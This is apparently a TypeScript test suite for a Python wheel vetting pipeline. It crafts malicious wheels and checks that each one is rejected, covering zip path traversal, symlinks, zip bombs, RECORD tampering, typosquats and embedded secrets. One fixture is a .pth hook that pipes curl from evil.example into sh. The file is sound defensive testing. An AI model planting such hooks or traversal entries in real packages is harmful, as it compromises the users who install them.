// Each attack class of channel-standards §6 as a crafted wheel: every one is rejected with its
// finding code; a clean wheel passes; waivers, dry-run and MAL- rules behave as the policy says.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { memoryAdvisoryLookup, parseOsvRecord, type Advisory } from '../../../src/channel/advisories/index.js';
import {
  blockingFindings, defaultVettingPolicy, defaultVettingSteps, runVettingPipeline,
  type FindingCode, type VettingContext, type VettingPolicy, type VettingReport, type Waiver,
} from '../../../src/channel/vetting/index.js';
import { buildWheel, FAKE_RSA_KEY, type CraftedWheel } from '../../helpers/crafted-wheels.js';

function advisory(raw: unknown): Advisory {
  const parsed = parseOsvRecord(raw);
  if ('error' in parsed) throw new Error(parsed.error);
  return parsed.advisory;
}

const advisories = [
  advisory({ id: 'MAL-2026-2144', aliases: ['PYSEC-2026-2'], affected: [{ package: { ecosystem: 'PyPI', name: 'litellm' }, versions: ['1.82.7', '1.82.8'] }] }),
  advisory({
    id: 'GHSA-demo-high', severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H' }],
    affected: [{ package: { ecosystem: 'PyPI', name: 'vulnerable-lib' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '2.0' }] }] }],
  }),
];

function context(overrides: Partial<VettingPolicy> = {}, waivers: Waiver[] = []): VettingContext {
  return { policy: defaultVettingPolicy(overrides), advisories: memoryAdvisoryLookup(advisories), knownProjects: new Set(['demo-pkg']), waivers, now: new Date('2026-08-01T00:00:00Z') };
}

async function vet(wheel: CraftedWheel & { publishedAt?: Date }, ctx = context()): Promise<VettingReport> {
  return runVettingPipeline(wheel, defaultVettingSteps(), ctx);
}

const mod = 'demo_pkg/__init__.py';
const bigZeros = Buffer.alloc(80 * 1024 * 1024);

const corpus: [string, () => CraftedWheel & { publishedAt?: Date }, FindingCode, Partial<VettingPolicy>?][] = [
  ['duplicate entry names', () => buildWheel({ mutate: (e) => [...e, { name: mod, data: 'import os\n' }] }), 'ZIP_DUPLICATE_NAME'],
  ['names equal after case folding', () => buildWheel({ files: { 'demo_pkg/Mod.py': 'a', 'demo_pkg/mod.py': 'b' } }), 'ZIP_DUPLICATE_NAME'],
  ['../ path traversal', () => buildWheel({ files: { '../../etc/evil.py': 'x' } }), 'ZIP_PATH_TRAVERSAL'],
  ['absolute path', () => buildWheel({ files: { '/etc/cron.d/evil': 'x' } }), 'ZIP_ABSOLUTE_PATH'],
  ['backslash in a name', () => buildWheel({ files: { 'demo_pkg\\evil.py': 'x' } }), 'ZIP_BACKSLASH_NAME'],
  ['NUL in a name', () => buildWheel({ files: { 'demo_pkg/evil\0.py': 'x' } }), 'ZIP_CONTROL_CHARACTER'],
  ['symlink entry', () => buildWheel({ mutate: (e) => [...e, { name: 'demo_pkg/link', data: '/etc/passwd', mode: 0o120777 }] }), 'ZIP_SYMLINK'],
  ['local header names another file', () => buildWheel({ mutate: (e) => e.map((x) => (x.name === mod ? { ...x, local: { name: 'demo_pkg/other.py' } } : x)) }), 'ZIP_HEADER_MISMATCH'],
  ['local header CRC differs', () => buildWheel({ mutate: (e) => e.map((x) => (x.name === mod ? { ...x, local: { crc32: 0xdeadbeef } } : x)) }), 'ZIP_HEADER_MISMATCH'],
  ['trailing data after the end record', () => buildWheel({ zip: { trailing: Buffer.from('PK\x05\x06 hidden payload') } }), 'ZIP_TRAILING_DATA'],
  ['data prepended before the first entry', () => buildWheel({ zip: { prefix: Buffer.from('#!/bin/sh\necho hi\n') } }), 'ZIP_HIDDEN_DATA'],
  ['local entry missing from the central directory', () => buildWheel({ mutate: (e) => [...e, { name: 'demo_pkg/hidden.py', data: 'evil()', omitFromCentral: true }] }), 'ZIP_HIDDEN_DATA'],
  ['zip bomb (compression ratio)', () => buildWheel({ files: { [mod]: '', 'demo_pkg/zeros.bin': bigZeros } }), 'ZIP_BOMB'],
  ['entry larger than declared', () => buildWheel({ mutate: (e) => e.map((x) => (x.name === mod ? { ...x, data: 'A'.repeat(5000), local: { uncompressedSize: 10 }, central: { uncompressedSize: 10 } } : x)) }), 'ZIP_CORRUPT_ENTRY'],
  ['bad RECORD hash', () => buildWheel({ recordHash: { [mod]: 'sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' } }), 'RECORD_HASH_MISMATCH'],
  ['extra file not in RECORD', () => buildWheel({ extraEntries: [{ name: 'demo_pkg/payload.py', data: 'steal()' }] }), 'RECORD_UNLISTED_FILE'],
  ['RECORD lists an absent file', () => buildWheel({ extraRecordLines: ['demo_pkg/gone.py,sha256=AAAA,4'] }), 'RECORD_MISSING_FILE'],
  ['RECORD with md5', () => buildWheel({ recordHash: { [mod]: 'md5=AAAAAAAAAAAAAAAAAAAAAA' } }), 'RECORD_HASH_MISSING'],
  ['.pth with import os;…', () => buildWheel({ files: { [mod]: '', 'demo_pkg_init.pth': "import os; os.system('curl https://evil.example/x | sh')\n" } }), 'STARTUP_PTH_EXEC'],
  ['.pth in .data/purelib', () => buildWheel({ files: { [mod]: '', 'demo_pkg-1.0.data/purelib/zz.pth': 'import\tbase64\n' } }), 'STARTUP_PTH_EXEC'],
  ['sitecustomize.py', () => buildWheel({ files: { [mod]: '', 'sitecustomize.py': 'import os\n' } }), 'STARTUP_CUSTOMIZE'],
  ['direct-URL Requires-Dist', () => buildWheel({ metadataLines: ['License-Expression: MIT', 'Requires-Dist: helper @ https://evil.example/helper-1.0.whl'] }), 'DEPENDENCY_DIRECT_URL'],
  ['embedded RSA private key', () => buildWheel({ files: { [mod]: '', 'demo_pkg/key.pem': FAKE_RSA_KEY } }), 'SECRET_PRIVATE_KEY'],
  ['embedded AWS access key', () => buildWheel({ files: { [mod]: 'AWS_KEY = "AKIAQWERTYUIOPASDFGH"\n' } }), 'SECRET_CLOUD_CREDENTIAL'],
  ['embedded GitHub token', () => buildWheel({ files: { [mod]: `TOKEN = "ghp_${'a1B2'.repeat(9)}"\n` } }), 'SECRET_TOKEN'],
  ['typosquat name reqeusts', () => buildWheel({ name: 'reqeusts', files: { 'reqeusts/__init__.py': '' } }), 'NAME_TYPOSQUAT'],
  ['typosquat name python-requests', () => buildWheel({ name: 'python-requests', files: { 'requests/__init__.py': '' } }), 'NAME_TYPOSQUAT'],
  ['licence outside the allowlist', () => buildWheel({ metadataLines: ['License-Expression: GPL-3.0-only'] }), 'POLICY_LICENSE'],
  ['licence classifier outside the allowlist', () => buildWheel({ metadataLines: ['Classifier: License :: OSI Approved :: GNU Affero General Public License v3'] }), 'POLICY_LICENSE'],
  ['no licence at all', () => buildWheel({ metadataLines: [] }), 'POLICY_LICENSE_UNKNOWN'],
  ['METADATA names another project', () => buildWheel({ metadataName: 'other-pkg' }), 'WHEEL_METADATA_MISMATCH'],
  ['two .dist-info directories', () => buildWheel({ files: { [mod]: '', 'stray-2.0.dist-info/METADATA': 'Name: stray' } }), 'WHEEL_DIST_INFO'],
  ['.data scheme outside the spec', () => buildWheel({ files: { [mod]: '', 'demo_pkg-1.0.data/etc/passwd': 'x' } }), 'WHEEL_DATA_SCHEME'],
  ['WHEEL tags differ from the file name', () => buildWheel({ mutate: (e) => e.map((x) => (String(x.name).endsWith('/WHEEL') ? { ...x, data: 'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: cp312-cp312-win_amd64\n' } : x)) }), 'WHEEL_TAG_MISMATCH'],
  ['known malicious release (MAL-)', () => buildWheel({ name: 'litellm', version: '1.82.8', files: { 'litellm/__init__.py': '' } }), 'VULN_MALICIOUS'],
  ['vulnerable at CVSS 7.5', () => buildWheel({ name: 'vulnerable-lib', version: '1.5', files: { 'vulnerable_lib/__init__.py': '' } }), 'VULN_KNOWN'],
  ['source distribution', () => ({ filename: 'demo_pkg-1.0.tar.gz', bytes: Buffer.from('not a wheel') }), 'POLICY_NOT_WHEEL'],
  ['published an hour ago', () => ({ ...buildWheel(), publishedAt: new Date('2026-07-31T23:00:00Z') }), 'POLICY_TOO_NEW', { minimumAgeHours: 24 }],
  ['plain http:// when policy says high', () => buildWheel({ files: { [mod]: 'URL = "http://updates.evil-cdn.io/feed"\n' } }), 'WEAKNESS_PLAIN_HTTP', { httpUrlSeverity: 'high' }],
];

for (const [title, make, code, policy] of corpus) {
  test(`rejected: ${title} → ${code}`, async () => {
    const report = await vet(make(), context(policy));
    assert.equal(report.status, 'rejected');
    const codes = blockingFindings(report).map((f) => f.code);
    assert.ok(codes.includes(code), `expected ${code} among ${codes.join(', ')}`);
  });
}

test('a clean crafted wheel is vetted, every step passes', async () => {
  const report = await vet(buildWheel());
  assert.equal(report.status, 'vetted', JSON.stringify(blockingFindings(report)));
  assert.deepEqual(report.steps.map((s) => s.status), report.steps.map(() => 'pass'));
  assert.equal(report.steps.length, 9);
});

test('plain http:// with the default policy is a warning, not a rejection', async () => {
  const report = await vet(buildWheel({ files: { [mod]: 'URL = "http://mirror.internal.corp/x"\nOK = "http://localhost:8000/"\n' } }));
  assert.equal(report.status, 'vetted');
  const secrets = report.steps.find((s) => s.name === 'secrets');
  assert.equal(secrets?.status, 'warn');
  assert.deepEqual(secrets?.findings.map((f) => [f.code, f.severity, f.evidence['count']]), [['WEAKNESS_PLAIN_HTTP', 'low', 1]]);
});

test('dry-run reports what policy would block and vets; integrity findings still block', async () => {
  const gpl = await vet(buildWheel({ metadataLines: ['License-Expression: GPL-3.0-only'] }), context({ dryRun: true }));
  assert.equal(gpl.status, 'vetted');
  assert.deepEqual(gpl.wouldBlock, ['POLICY_LICENSE']);
  const pth = await vet(buildWheel({ files: { 'evil.pth': 'import os\n' } }), context({ dryRun: true }));
  assert.equal(pth.status, 'rejected');
});

test('a waiver for an advisory alias lifts it until it expires; MAL- findings cannot be waived', async () => {
  const file = buildWheel({ name: 'vulnerable-lib', version: '1.5', files: { 'vulnerable_lib/__init__.py': '' } });
  const waiver = (subject: string, expiresAt: string): Waiver => ({
    id: 1, subject, filename: file.filename, reason: 'not reachable in our use', createdBy: 'ana', createdAt: '2026-07-01T00:00:00Z', expiresAt, revokedAt: null,
  });
  const waived = await vet(file, context({}, [waiver('GHSA-demo-high', '2026-09-01T00:00:00Z')]));
  assert.equal(waived.status, 'vetted');
  assert.equal(waived.steps.find((s) => s.name === 'vulnerabilities')?.findings[0]?.waived?.reason, 'not reachable in our use');
  const expired = await vet(file, context({}, [waiver('GHSA-demo-high', '2026-07-15T00:00:00Z')]));
  assert.equal(expired.status, 'rejected');
  const mal = buildWheel({ name: 'litellm', version: '1.82.8', files: { 'litellm/__init__.py': '' } });
  const malWaiver = { ...waiver('MAL-2026-2144', '2026-09-01T00:00:00Z'), filename: mal.filename };
  assert.equal((await vet(mal, context({ dryRun: true }, [malWaiver]))).status, 'rejected');
});

test('the allowlist accepts setuptools-style .pth hooks by project and path', async () => {
  const file = buildWheel({ name: 'demo-pkg', files: { [mod]: '', 'demo-hook.pth': 'import os; print(1)\n' } });
  assert.equal((await vet(file)).status, 'rejected');
  assert.equal((await vet(file, context({ startupHookAllowlist: ['demo-pkg:demo-hook.pth'] }))).status, 'vetted');
});
